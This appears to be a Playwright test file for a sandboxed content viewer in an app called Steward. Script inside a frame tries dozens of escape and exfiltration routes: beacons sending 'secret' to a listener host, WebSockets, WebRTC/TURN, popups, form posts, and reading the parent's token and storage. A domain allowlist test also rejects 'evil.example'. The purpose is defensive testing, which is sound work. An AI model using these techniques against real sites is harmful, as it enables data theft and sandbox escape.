import { expect, show, test } from '../fixtures/hostile-view.ts'
import { View } from '../pages/view.ts'

test('a view reaches nothing: neither by its page nor by its script, and leaves nothing behind', async ({ steward, listener }) => {
  const frame = await show(steward, 'reaching')
  const { page } = steward
  const own = new URL(page.url()).origin
  const windows: string[] = []
  const downloads: string[] = []
  const own_requests: string[] = []
  page.context().on('page', (other) => windows.push(other.url()))
  page.on('download', (download) => downloads.push(download.url()))
  page.on('request', (request) => request.frame() !== page.mainFrame() && !/^(blob|data|about):/.test(request.url()) && request.failure() === null && own_requests.push(request.url()))

  const outcome = await frame.evaluate(
    async ([target, tcp, udp, steward_origin]) => {
      const results: Record<string, string> = {}
      const attempt = async (name: string, run: () => unknown): Promise<void> => {
        try {
          const value: unknown = await Promise.race([run(), new Promise((resolve) => setTimeout(resolve, 3000, 'no answer'))])
          results[name] = typeof value === 'string' ? value : String(value)
        } catch (error) {
          results[name] = `refused: ${(error as Error).name}`
        }
      }
      const make = (tag: string, values: Record<string, string>): HTMLElement => {
        const element = Object.assign(document.createElement(tag), values)
        document.body.append(element)
        return element
      }
      const socket = (url: string): Promise<string> =>
        new Promise((resolve) => {
          const opened = new WebSocket(url)
          opened.onopen = () => resolve('open')
          opened.onerror = () => resolve('refused')
        })
      await Promise.all([
        attempt('fetch', () => fetch(`${target}/fetch`, { mode: 'no-cors' })),
        attempt('steward', () => fetch(`${steward_origin}/`, { mode: 'no-cors' })),
        attempt('itself', () => fetch('/')),
        attempt('beacon', () => void navigator.sendBeacon(`${target}/beacon`, 'secret')),
        attempt('socket', () => socket(`ws://127.0.0.1:${tcp}/`)),
        attempt('steward socket', () => socket(`${(steward_origin as string).replace('http', 'ws')}/rpc`)),
        attempt('events', () => void new EventSource(`${target}/events`)),
        attempt('transport', () => new (window as unknown as { WebTransport: new (url: string) => { ready: Promise<unknown> } }).WebTransport(`https://127.0.0.1:${tcp}/`).ready),
        attempt('image', () => make('img', { src: `${target}/late-image` })),
        attempt('worker', () => {
          const worker = new Worker(URL.createObjectURL(new Blob([`fetch('${target}/worker').then(() => postMessage('reached'), () => postMessage('refused'))`])))
          return new Promise((resolve) => (worker.onmessage = ({ data }) => resolve(String(data))))
        }),
        attempt('service worker', () => navigator.serviceWorker.register('/')),
        attempt('shared worker', () => new SharedWorker(`${target}/shared`)),
        // WebRTC is no fetch: no Content-Security-Policy of today speaks of it.
        attempt('peer', async () => {
          const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }, { urls: `turn:127.0.0.1:${tcp}?transport=tcp`, username: 'secret', credential: 'x' }] })
          peer.createDataChannel('x')
          await peer.setLocalDescription(await peer.createOffer())
          return new Promise((resolve) => setTimeout(resolve, 1500, 'waited'))
        }),
        attempt('blank frame', () => {
          const inner = make('iframe', {}) as HTMLIFrameElement
          return (inner.contentWindow as unknown as { fetch: typeof fetch }).fetch(`${target}/blank`, { mode: 'no-cors' })
        }),
        attempt('late frame', () => make('iframe', { src: `${target}/late-frame` })),
        attempt('steward frame', () => make('iframe', { src: steward_origin as string })),
        attempt('data frame', () => make('iframe', { src: `data:text/html,<img src="${target}/data">` })),
        attempt('window', () => window.open(`${target}/window`)),
        attempt('ping', () => make('a', { href: '#x', ping: `${target}/ping` } as Record<string, string>).click()),
        attempt('blank link', () => make('a', { href: `${target}/blank-link`, target: '_blank' }).click()),
        attempt('top link', () => make('a', { href: `${target}/top-link`, target: '_top' }).click()),
        attempt('top', () => void (window.top!.location.href = `${target}/top`)),
        attempt('file', () => make('a', { href: URL.createObjectURL(new Blob(['x'])), download: 'x.exe' }).click()),
        attempt('form', () => (make('form', { action: `${target}/form`, target: '_blank', method: 'post' }) as HTMLFormElement).submit()),
        attempt('dialog', () => void alert('pwned')),
        attempt('document', () => window.parent.document.title),
        attempt('token', () => window.parent.location.hash),
        attempt('storage of the app', () => window.parent.localStorage.getItem('steward-theme')),
        attempt('opener', () => window.opener),
        attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true })),
        attempt('place', () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve('here'), () => reject(new Error('refused'))))),
        attempt('clipboard', () => navigator.clipboard.readText()),
        attempt('copy', () => navigator.clipboard.writeText('pwned')),
        attempt('full screen', () => document.documentElement.requestFullscreen()),
        attempt('cookie', () => ((document.cookie = 'a=1'), document.cookie === '' ? 'refused' : document.cookie)),
      ])
      return results
    },
    [listener.http, listener.tcpPort, listener.udpPort, own] as const,
  )
  const refused = ['fetch', 'steward', 'itself', 'socket', 'steward socket', 'transport', 'worker', 'service worker', 'blank frame', 'top', 'document', 'token', 'storage of the app', 'camera', 'place', 'clipboard', 'copy', 'full screen']
  for (const name of refused) expect.soft(`${name}: ${outcome[name]}`).toMatch(/: refused/)
  expect(outcome['window']).toBe('null')
  expect(outcome['opener']).toBe('null')
  expect(page.url().startsWith(own)).toBe(true)
  expect([windows, downloads, listener.seen]).toEqual([[], [], []])
  expect(own_requests.filter((url) => url.startsWith(own))).toEqual([])
  await expect(steward.chat.composer).toBeVisible()
})

test('a view cannot leave, and who tries is taken out', async ({ steward, listener }) => {
  const frame = await show(steward, 'view')
  const { page } = steward
  await frame.evaluate((target) => void (location.href = `${target}/away?secret`), listener.http)
  await expect(page.getByText('Steward ended this view: it tried to go to another page.')).toBeVisible()
  await page.getByRole('button', { name: 'Show it again' }).click()
  const again = await new View(steward, 'hostile').frame()
  // The way of a form, and of its own page into the frame of another origin.
  await again.evaluate((target) => {
    const form = Object.assign(document.createElement('form'), { action: `${target}/form`, method: 'post' })
    document.body.append(form)
    form.submit()
  }, listener.http)
  await expect(page.getByText('Steward ended this view: it tried to go to another page.')).toBeVisible()
  expect(listener.seen).toEqual([])
})

test('a view is held to its domains; what it may not have is refused and written into the log', async ({ steward, listener }) => {
  const frame = await show(steward, 'declaring')
  const { page, servers } = steward
  const asked: string[] = []
  await page.context().route(/example\.com|example\b/, (route) => {
    asked.push(route.request().url())
    return route.fulfill({ body: 'ok', headers: { 'access-control-allow-origin': '*' } })
  })
  const reach = (url: string): Promise<string> => frame.evaluate((address) => fetch(address).then((response) => response.text(), () => 'refused'), url)
  expect(await reach('https://api.example.com/data')).toBe('ok')
  for (const url of ['https://api.example.com:8443/', 'http://api.example.com/', 'https://example.com/', 'https://evil.example/', 'https://x.static.example.com/', `${listener.http}/`]) expect([url, await reach(url)]).toEqual([url, 'refused'])
  expect(asked).toEqual(['https://api.example.com/data'])
  expect(listener.seen).toEqual([])
  const box = new View(steward, 'hostile').box
  await expect(box).toContainText('reaches api.example.com, *.static.example.com and 1 more')

  // The camera only after the person said so, and nothing that it did not declare at all.
  expect(await frame.evaluate(() => (document as unknown as { featurePolicy: { allowsFeature(name: string): boolean } }).featurePolicy.allowsFeature('camera'))).toBe(false)
  await box.getByRole('button', { name: 'Let it use your camera' }).click()
  await expect(box.getByRole('button', { name: /Let it use/ })).toBeHidden()
  const allowed = await new View(steward, 'hostile').frame()
  expect(await allowed.evaluate(() => ['camera', 'clipboard-write', 'microphone', 'geolocation', 'clipboard-read'].filter((name) => (document as unknown as { featurePolicy: { allowsFeature(name: string): boolean } }).featurePolicy.allowsFeature(name)))).toEqual(['camera', 'clipboard-write'])

  await servers.open()
  await servers.choose('hostile')
  await servers.tab('Log').click()
  await expect(page.getByRole('tabpanel')).toContainText(`declares domains that it may not reach: ${listener.http}, *, https://evil.example; script-src *`)
})
